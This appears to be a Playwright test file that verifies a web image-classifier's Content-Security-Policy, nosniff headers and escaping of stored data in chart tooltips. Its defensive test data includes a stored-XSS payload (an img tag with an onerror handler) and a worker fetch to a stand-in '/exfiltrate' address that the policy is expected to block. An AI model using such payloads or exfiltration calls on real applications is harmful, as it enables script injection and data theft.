// Issue #15 item 1 in real Chromium against the built app: the Content-Security-Policy and nosniff headers are
// served, every screen (and a classification, and ORT's threaded WASM) runs under the policy with no violation in
// the page or its workers, the policy blocks inline handlers and scripts, and hostile strings stored in IndexedDB
// (an imported benchmark JSON, an ONNX in My models whose webclas.training carries HTML) show as text in every
// Compare tooltip instead of becoming markup.
import { readFileSync } from 'node:fs';
import { resolve } from 'node:path';
import { expect, type Locator, type Page, test } from '@playwright/test';
import { contentSecurityPolicy } from '../scripts/csp-plugin.ts';
import { screens } from '../src/app/routes.ts';
import { onnx } from '../src/engine/onnx/proto.ts';
import { CHART_GRID } from '../src/features/compare/chart-data.ts';
import { watchCspViolations } from './support/csp-violations.ts';

const shared = resolve(process.env.WEBCLAS_SHARED ?? '../shared');

/** Would count its runs in window.__xss if it ever became an element. */
const HOSTILE = '<img src=x onerror="window.__xss=(window.__xss||0)+1">';

const directives = (policy: string) =>
  Object.fromEntries(
    policy
      .split(';')
      .map((d) => d.trim().split(/\s+/))
      .filter((d) => d[0])
      .map(([name, ...sources]) => [name, sources]),
  );

/** Drops files (dropped path → ../shared path) on the Datasets screen as a folder drop delivers them. */
async function dropPhotos(page: Page, entries: [string, string][]) {
  await page.evaluate(async (entries) => {
    const dt = new DataTransfer();
    for (const [path, from] of entries) {
      const r = await fetch(`/shared/${from}`);
      if (!r.ok) throw new Error(`fetch /shared/${from}: ${r.status}`);
      const file = new File([await r.blob()], path.split('/').pop()!);
      Object.defineProperty(file, 'relativePath', { value: path });
      dt.items.add(file);
    }
    document
      .querySelector('[data-testid="dataset-drop"]')!
      .dispatchEvent(new DragEvent('drop', { dataTransfer: dt, bubbles: true, cancelable: true }));
  }, entries);
}

const xssRuns = (page: Page) => page.evaluate(() => (window as { __xss?: number }).__xss ?? 0);

test('the app is served with the CSP and nosniff, and every screen loads under it with no violation', async ({
  page,
}) => {
  test.setTimeout(600_000);
  const violations = await watchCspViolations(page);
  const errors: string[] = [];
  page.on('pageerror', (e) => errors.push(e.message));

  const res = await page.goto('/');
  const headers = res!.headers();
  expect(headers['content-security-policy']).toBe(contentSecurityPolicy());
  const d = directives(headers['content-security-policy']);
  expect(d['script-src']).toEqual(["'self'", "'wasm-unsafe-eval'"]);
  expect(d['object-src']).toEqual(["'none'"]);
  expect(d['base-uri']).toEqual(["'none'"]);
  expect(d['frame-ancestors']).toEqual(["'none'"]);
  expect(headers['x-content-type-options']).toBe('nosniff');
  // The built index.html carries the same policy for hosts without headers (frame-ancestors is header-only).
  await expect(page.locator('meta[http-equiv="Content-Security-Policy"]')).toHaveAttribute(
    'content',
    contentSecurityPolicy({}, 'meta'),
  );

  for (const { id } of screens) {
    await page.getByTestId(`tab-${id}`).click();
    await expect(page.getByTestId(`screen-${id}`)).toBeVisible();
  }
  expect(screens.at(-1)?.id).toBe('system');

  // System loads ORT in the GPU worker and compiles its WASM there: 'wasm-unsafe-eval' at work in a worker.
  await expect(page.getByTestId('ort-ep-wasm-available')).toHaveText('yes', { timeout: 120_000 });
  const worker = page.workers().find((w) => /gpu\.worker/.test(w.url()));
  expect(worker, 'the GPU worker runs').toBeTruthy();
  const workerRes = await page.request.get(worker!.url());
  expect(workerRes.headers()['content-security-policy']).toBe(contentSecurityPolicy());
  expect(workerRes.headers()['x-content-type-options']).toBe('nosniff');
  expect(workerRes.headers()['content-type']).toMatch(/javascript/);

  // A small class-folder drop: the import worker stores it, the grid shows blob: thumbnails (img-src blob:).
  await page.getByTestId('tab-datasets').click();
  await dropPhotos(page, [
    ['tiny/train/daisy/a.jpg', 'data/photos/eagle.jpg'],
    ['tiny/train/daisy/b.jpg', 'data/photos/dog.jpg'],
    ['tiny/train/iris/c.png', 'data/photos/coffee.png'],
    ['tiny/train/iris/d.jpg', 'data/photos/LadyBird.jpg'],
  ]);
  await expect(page.getByTestId('import-outcome')).toHaveAttribute('data-state', 'done');
  const thumb = page.getByTestId('thumb').first().locator('img');
  await expect
    .poll(() => thumb.evaluate((i: HTMLImageElement) => i.complete && i.naturalWidth))
    .toBeGreaterThan(0);
  expect(await thumb.getAttribute('src')).toMatch(/^blob:/);

  // A classification: the model streams from the mirror (connect-src) and ORT runs on it in the GPU worker.
  await page.getByTestId('tab-classify').click();
  const picker = page.getByTestId('model-picker');
  await expect(picker.locator('option[value="mobilenetv2-12-float/fp32"]')).toHaveCount(1);
  await picker.selectOption('mobilenetv2-12-float/fp32');
  await page.getByTestId('file-input').setInputFiles([
    {
      name: 'coffee.png',
      mimeType: 'image/png',
      buffer: readFileSync(resolve(shared, 'data/photos/coffee.png')),
    },
  ]);
  await expect(page.getByTestId('classify-status')).toHaveAttribute('data-phase', 'done', {
    timeout: 300_000,
  });
  await expect(page.getByTestId('prediction-label').first()).toHaveText('espresso');

  expect(violations).toEqual([]);
  expect(errors).toEqual([]);
});

test('the policy blocks what a stored XSS would run, in the page and in a worker', async ({ page }) => {
  const violations = await watchCspViolations(page);
  await page.goto('/#/system');
  await expect(page.getByTestId('system-info')).toBeVisible();

  // Markup that reaches the DOM: its inline handler and an inline script are refused, and reported.
  await page.evaluate((html) => {
    const box = document.createElement('div');
    box.innerHTML = html;
    document.body.append(box);
    const s = document.createElement('script');
    s.textContent = 'window.__xss = (window.__xss || 0) + 1;';
    document.body.append(s);
  }, HOSTILE);
  await expect.poll(() => violations.filter((v) => v.includes('script-src-attr')).length).toBeGreaterThan(0);
  await expect.poll(() => violations.filter((v) => v.includes('script-src-elem')).length).toBeGreaterThan(0);
  expect(await xssRuns(page)).toBe(0);

  // The worker has the policy too (its script's response header), and the watcher hears its violations.
  const worker = page.workers().find((w) => /gpu\.worker/.test(w.url()));
  expect(worker).toBeTruthy();
  const outcome = await worker!.evaluate(() =>
    fetch('http://10.255.255.1/exfiltrate').then(
      () => 'sent',
      () => 'refused',
    ),
  );
  expect(outcome).toBe('refused');
  await expect
    .poll(() => violations.filter((v) => v.includes('connect-src') && v.includes('[worker')).length)
    .toBeGreaterThan(0);
});

test("ORT's threaded WASM starts under the policy (its module workers, its .wasm)", async ({ page }) => {
  test.setTimeout(300_000);
  const violations = await watchCspViolations(page);
  const workers: string[] = [];
  page.on('worker', (w) => workers.push(w.url()));
  await page.goto('/#/system');
  await expect(page.getByTestId('ort-ep-wasm-available')).toHaveText('yes', { timeout: 120_000 });
  expect(await page.evaluate(() => crossOriginIsolated)).toBe(true);
  // The chunk the GPU worker loaded ORT from. With two cores ORT picks one thread, so two are asked for here,
  // in the page: ORT then starts pthread workers from that same chunk, as it would on a larger machine.
  const gpuWorker = page.workers().find((w) => /gpu\.worker/.test(w.url()))!;
  const chunks = await gpuWorker.evaluate(() =>
    performance
      .getEntriesByType('resource')
      .map((e) => e.name)
      .filter((n) => /\/ort\.[\w.]*bundle[\w.-]*\.js$/.test(n)),
  );
  expect(chunks.length).toBeGreaterThan(0);
  const ortChunk = chunks[0]!;
  const out = await page.evaluate(async (url) => {
    const ort = await import(/* @vite-ignore */ url);
    ort.env.wasm.numThreads = 2;
    const bytes = new Uint8Array(await (await fetch('/mirror/arch/squeezenet1_1-random.onnx')).arrayBuffer());
    const session = await ort.InferenceSession.create(bytes, { executionProviders: ['wasm'] });
    const x = new ort.Tensor('float32', new Float32Array(3 * 224 * 224).fill(0.5), [1, 3, 224, 224]);
    const y = (await session.run({ [session.inputNames[0]]: x }))[session.outputNames[0]];
    return { dims: [...y.dims], finite: Array.from(y.data as Float32Array).every(Number.isFinite) };
  }, ortChunk);
  expect(out).toEqual({ dims: [1, 1000], finite: true });
  // The pthread pool: module workers of ORT's own chunk (worker-src 'self').
  expect(workers.filter((u) => u === ortChunk).length).toBeGreaterThanOrEqual(1);
  expect(violations).toEqual([]);
});

type Grid = { left: number; right: number; top: number; bottom: number };

/** Centres of the small square paths inside the plot area: data symbols (ticks, lines and legend icons are not). */
async function symbols(chart: Locator, grid: Grid) {
  const area = await chart.boundingBox();
  if (!area) return [];
  const boxes = await chart.locator('svg path').evaluateAll((els) =>
    els.map((e) => {
      const r = e.getBoundingClientRect();
      return { x: r.x + r.width / 2, y: r.y + r.height / 2, w: r.width, h: r.height };
    }),
  );
  return boxes.filter(
    (b) =>
      b.w >= 4 &&
      b.w <= 44 &&
      Math.abs(b.w - b.h) < 2 &&
      b.x > area.x + grid.left &&
      b.x < area.x + area.width - grid.right &&
      b.y > area.y + grid.top &&
      b.y < area.y + area.height - grid.bottom,
  );
}

/** Waits until the chart has drawn its one data symbol, then puts the mouse on it. */
async function hoverSymbol(page: Page, chart: Locator, grid: Grid) {
  await chart.scrollIntoViewIfNeeded();
  await expect.poll(async () => (await symbols(chart, grid)).length).toBe(1);
  const [s] = await symbols(chart, grid);
  await page.mouse.move(s!.x, s!.y);
}

/** echarts' HTML tooltip: the chart's child div that is not the drawing (which holds the SVG). */
const tooltip = (chart: Locator) =>
  chart.locator(':scope > div').filter({ hasNot: chart.page().locator('svg') });

async function expectText(tip: Locator, ...texts: string[]) {
  await expect(tip).toBeVisible();
  for (const t of texts) await expect(tip).toContainText(t);
  await expect(tip.locator('img, script')).toHaveCount(0);
}

function hostileExport(): string {
  const result = {
    id: 'hostile-1',
    at: Date.now(),
    model: {
      id: HOSTILE,
      name: `${HOSTILE}name`,
      family: `${HOSTILE}family`,
      top1: 71.5,
      params: 25e6,
      gflops: null,
      sizeBytes: 1000,
      fineTuned: { dataset: `${HOSTILE}data`, valTop1: 0.8, base: `${HOSTILE}base` },
    },
    backend: 'wasm',
    batch: 1,
    threads: 1,
    env: {
      userAgent: `${HOSTILE}agent`,
      adapter: `${HOSTILE}adapter`,
      fallbackAdapter: false,
      crossOriginIsolated: true,
      hardwareConcurrency: 8,
    },
    sessionCreateMs: 10,
    firstRunMs: 5,
    warmupRuns: 0,
    samplesMs: [12.5],
    p50Ms: 12.5,
    p90Ms: 12.5,
    meanMs: 12.5,
    imagesPerSec: 80,
    peakGpuBytes: null,
    peakGpuNote: HOSTILE,
  };
  return JSON.stringify({
    kind: 'webclas-bench-results',
    version: 1,
    exportedAt: new Date().toISOString(),
    results: [result],
  });
}

// Plot area of the Compare scatter charts: the grid chart-data.ts gives them.
const SCATTER_GRID = CHART_GRID;

test('a hostile benchmark JSON shows as text in every Compare tooltip, after a reload too', async ({
  page,
}) => {
  test.setTimeout(300_000);
  const violations = await watchCspViolations(page);
  await page.goto('/#/compare');
  await expect(page.getByTestId('bench-empty')).toBeVisible();
  await page.getByTestId('bench-import').setInputFiles({
    name: 'hostile.json',
    mimeType: 'application/json',
    buffer: Buffer.from(hostileExport()),
  });
  await expect(page.getByTestId('bench-row')).toHaveCount(1);
  // Stored in IndexedDB: what a later visit draws.
  await page.reload();
  await page.getByTestId('bench-plot-backend').selectOption('wasm');
  await expect(page.getByTestId('scatter-panel')).toHaveAttribute('data-points', '1');
  await expect(page.getByTestId('finetuned-panel')).toHaveAttribute('data-points', '1');

  const scatter = page.getByTestId('bench-scatter');
  await expect(scatter).toHaveAttribute('data-ready', 'true');
  await hoverSymbol(page, scatter, SCATTER_GRID);
  await expectText(tooltip(scatter), HOSTILE, `${HOSTILE}family`, 'top-1 71.50%', 'M params');

  const tuned = page.getByTestId('finetuned-scatter');
  await hoverSymbol(page, tuned, SCATTER_GRID);
  await expectText(tooltip(tuned), `${HOSTILE}name (from ${HOSTILE}base)`, 'val top-1 80%');

  // Bars keep echarts' own axis tooltip (it escapes): the category is the model id.
  const bars = page.getByTestId('bench-bars');
  await bars.scrollIntoViewIfNeeded();
  const box = (await bars.boundingBox())!;
  await page.mouse.move(box.x + box.width / 2, box.y + box.height / 2);
  await expectText(tooltip(bars), `${HOSTILE} b1`, 'ORT WASM');

  // Legends and axis labels are echarts text (SVG <text>): the markup is drawn as characters there too.
  await expect(scatter.locator('svg text', { hasText: `${HOSTILE}family` })).toHaveCount(1);
  await expect(tuned.locator('svg text', { hasText: `${HOSTILE}data` })).toHaveCount(1);
  await expect(bars.locator('svg text', { hasText: `${HOSTILE} b1` })).toHaveCount(1);
  await expect(page.locator('.compare-charts img')).toHaveCount(0);

  expect(await xssRuns(page)).toBe(0);
  // Markup that became an element would have tripped the policy (its inline handler): nothing did.
  expect(violations).toEqual([]);
});

/** squeezenet (random weights) with a webclas.training entry whose dataset and base model are markup. */
function hostileOnnx(): Buffer {
  const model = onnx.ModelProto.decode(
    readFileSync(resolve(shared, 'models/arch/squeezenet1_1-random.onnx')),
  );
  model.metadataProps = [
    ...(model.metadataProps ?? []).filter((p) => p.key !== 'webclas.training'),
    onnx.StringStringEntryProto.create({
      key: 'webclas.training',
      value: JSON.stringify({ dataset: `${HOSTILE}data`, valTop1: 0.75, source: `${HOSTILE}base` }),
    }),
  ];
  return Buffer.from(onnx.ModelProto.encode(model).finish());
}

test('an ONNX in My models with HTML in webclas.training shows as text in the fine-tuned tooltip', async ({
  page,
}) => {
  test.setTimeout(600_000);
  const violations = await watchCspViolations(page);
  await page.goto('/#/models');
  await page.getByTestId('local-model-input').setInputFiles({
    name: 'hostile-finetune.onnx',
    mimeType: 'application/octet-stream',
    buffer: hostileOnnx(),
  });
  await page.getByRole('button', { name: 'Add to My models' }).click();
  await expect(page.getByTestId('my-models')).toContainText('hostile-finetune', { timeout: 120_000 });

  await page.getByTestId('tab-compare').click();
  for (const m of ['mobilenetv2-12-float', 'mobilenetv2-12-int8'])
    await page.getByRole('checkbox', { name: m, exact: true }).setChecked(false);
  await page.getByRole('checkbox', { name: /\(my model\)/ }).setChecked(true);
  for (const [name, on] of [
    ['ORT WebGPU', false],
    ['ORT WASM', true],
    ['Studio engine', false],
  ] as const)
    await page.getByRole('checkbox', { name, exact: true }).setChecked(on);
  await page.getByTestId('bench-mirror-files').fill('');
  await page.getByTestId('bench-batches').fill('1');
  await page.getByTestId('bench-warmup').fill('0');
  await page.getByTestId('bench-runs').fill('1');
  await page.getByTestId('bench-start').click();
  await expect(page.getByTestId('bench-status')).toHaveAttribute('data-running', 'true');
  await expect(page.getByTestId('bench-status')).toHaveAttribute('data-running', 'false', {
    timeout: 480_000,
  });
  await expect(page.getByTestId('bench-error')).toHaveCount(0);

  await page.getByTestId('bench-plot-backend').selectOption('wasm');
  await expect(page.getByTestId('finetuned-panel')).toHaveAttribute('data-points', '1');
  const tuned = page.getByTestId('finetuned-scatter');
  await expect(tuned).toHaveAttribute('data-ready', 'true');
  await hoverSymbol(page, tuned, SCATTER_GRID);
  await expectText(tooltip(tuned), `(from ${HOSTILE}base)`, 'val top-1 75%');

  expect(await xssRuns(page)).toBe(0);
  expect(violations).toEqual([]);
});
